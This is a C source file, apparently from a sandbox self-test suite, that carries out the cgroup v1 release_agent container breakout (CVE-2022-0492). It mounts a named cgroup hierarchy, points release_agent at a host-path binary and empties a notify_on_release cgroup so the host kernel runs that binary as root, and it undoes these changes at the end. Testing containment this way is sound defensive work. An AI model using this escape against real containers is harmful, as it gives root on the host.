/* cgroup v1 release_agent: CVE-2022-0492 and Felix Wilhelm's
 * privileged-container breakout (https://unit42.paloaltonetworks.com/cve-2022-0492-cgroups/).
 * With CAP_SYS_ADMIN a container mounts a cgroup v1 hierarchy (here a
 * named one of our own, `name=sandbox-selftest`, so no host hierarchy is
 * touched; the kernel keeps an empty named hierarchy after its last
 * umount, so a fixed name leaves at most that one behind), sets the root's
 * release_agent to a program, and empties a child cgroup with
 * notify_on_release set: the host kernel then runs the program as root
 * in the host's namespaces. The program is this binary, at its host path
 * (SELFTEST_HOST_ROOTFS/attack; a real attack reads it from
 * /proc/self/mountinfo); run as an agent it only writes a marker file
 * the runner checks (main.c). Everything else is undone at the end
 * (release_agent cleared, the child cgroup removed, the mount gone). */
#include "attack.h"

#include <fcntl.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static int put(const char *path, const char *text) {
    int fd = open(path, O_WRONLY);
    if (fd < 0)
        return -1;
    long n = write(fd, text, strlen(text));
    int e = errno;
    close(fd);
    errno = e;
    return n == (long)strlen(text) ? 0 : -1;
}

int attack_release_agent(void) {
    const char *root = need_env("SELFTEST_HOST_ROOTFS");
    char agent[4200], child[64], flag[128], procs[128];
    snprintf(agent, sizeof agent, "%s/attack", root);
    /* A child of our own, should two selftests share the hierarchy. */
    snprintf(child, sizeof child, "/tmp/selftest-cg/x%d", (int)getpid() ^ (int)time(NULL));
    snprintf(flag, sizeof flag, "%s/notify_on_release", child);
    snprintf(procs, sizeof procs, "%s/cgroup.procs", child);
    mkdir("/tmp/selftest-cg", 0700);
    if (mount("cgroup", "/tmp/selftest-cg", "cgroup", 0, "none,name=sandbox-selftest") < 0)
        BLOCKED_ERRNO("mount a cgroup v1 hierarchy");
    const char *step = NULL;
    if (mkdir(child, 0700) < 0 && errno != EEXIST)
        step = "mkdir a child cgroup";
    else if (put(flag, "1") < 0)
        step = "write notify_on_release";
    else if (put("/tmp/selftest-cg/release_agent", agent) < 0)
        step = "write release_agent";
    if (!step) {
        pid_t c = fork();
        if (c == 0) {
            char pid[32];
            snprintf(pid, sizeof pid, "%d", getpid());
            _exit(put(procs, pid) < 0 ? 1 : 0);
        }
        int st = 0;
        waitpid(c, &st, 0);
        if (!WIFEXITED(st) || WEXITSTATUS(st) != 0)
            step = "move a process into the child cgroup";
        else
            usleep(500 * 1000); /* the agent runs asynchronously */
    }
    int e = errno;
    /* A lone newline clears it (an empty write would change nothing). */
    put("/tmp/selftest-cg/release_agent", "\n");
    rmdir(child);
    umount2("/tmp/selftest-cg", MNT_DETACH);
    if (step) {
        errno = e;
        BLOCKED_ERRNO(step);
    }
    WORKED("set release_agent and emptied a notify_on_release cgroup");
}
